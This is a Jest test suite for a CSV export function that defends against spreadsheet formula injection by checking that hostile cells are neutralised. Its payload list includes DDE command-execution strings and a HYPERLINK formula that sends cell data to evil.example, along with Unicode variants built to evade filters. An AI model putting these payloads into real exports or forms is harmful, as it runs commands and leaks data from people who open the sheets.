import { describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import * as fc from 'fast-check';
import { BYTE_ORDER_MARK, csvLine } from '../../lambdas/core/csv.ts';

const cellsOf = (line: string) => parse(line, { record_delimiter: '\r\n', relax_column_count: true })[0];

/** What people put into forms so that whoever opens the table runs it. */
const hostile = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  '+49 30 1234567',
  '+1+1',
  '-1+1',
  "@SUM(1+1)*cmd|'/C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
  '","=1+1',
  'a,=1+1',
  'a\r\n=1+1,b',
  ';=1+1',
  '\ufeff=1+1',
];

describe('a cell', () => {
  it('stays the text that it was', () => {
    const cells = ['Zoë Müller', 'a, b', 'says "hi"', 'two\nlines', "O'Neill", '名前', '', 'a;b', ' spaced '];
    expect(cellsOf(csvLine(cells))).toEqual(cells);
    expect(csvLine(['a', null, 'b'])).toBe('a,,b\r\n');
  });

  it.each(hostile)('that is hostile never begins as a formula: %j', (text) => {
    const [cell = ''] = cellsOf(csvLine([text, 'next'])) ?? [];
    expect(cell).not.toMatch(/^[\s\uFEFF]*[=+\-@\t\r\0＝＋－＠]/u);
    expect(cellsOf(csvLine([text, 'next']))).toHaveLength(2);
  });

  it('that looks like a formula has an apostrophe before it, and nothing else is changed', () => {
    expect(cellsOf(csvLine(['=1+1', '+49 30', '-5', '@ana']))).toEqual(["'=1+1", "'+49 30", "'-5", "'@ana"]);
  });

  it('never makes more cells or lines than there are, and never a formula, whatever it says', () => {
    const text = fc.oneof(fc.string({ unit: 'binary' }), fc.constantFrom(...hostile), fc.string());
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 6 }), (cells) => {
        const lines = parse(csvLine(cells) + csvLine(['end']), {
          record_delimiter: '\r\n',
          relax_column_count: true,
          skip_empty_lines: false,
        });
        expect(lines.map((line) => line.length)).toEqual([cells.length, 1]);
        expect(lines[0]?.filter((cell) => /^[=+\-@\t\r\0]/.test(cell))).toEqual([]);
      }),
      { numRuns: 2000 },
    );
  });
});

it('the mark of UTF-8 is no part of the first cell', () => {
  expect(parse(BYTE_ORDER_MARK + csvLine(['Name']), { bom: true })).toEqual([['Name']]);
});
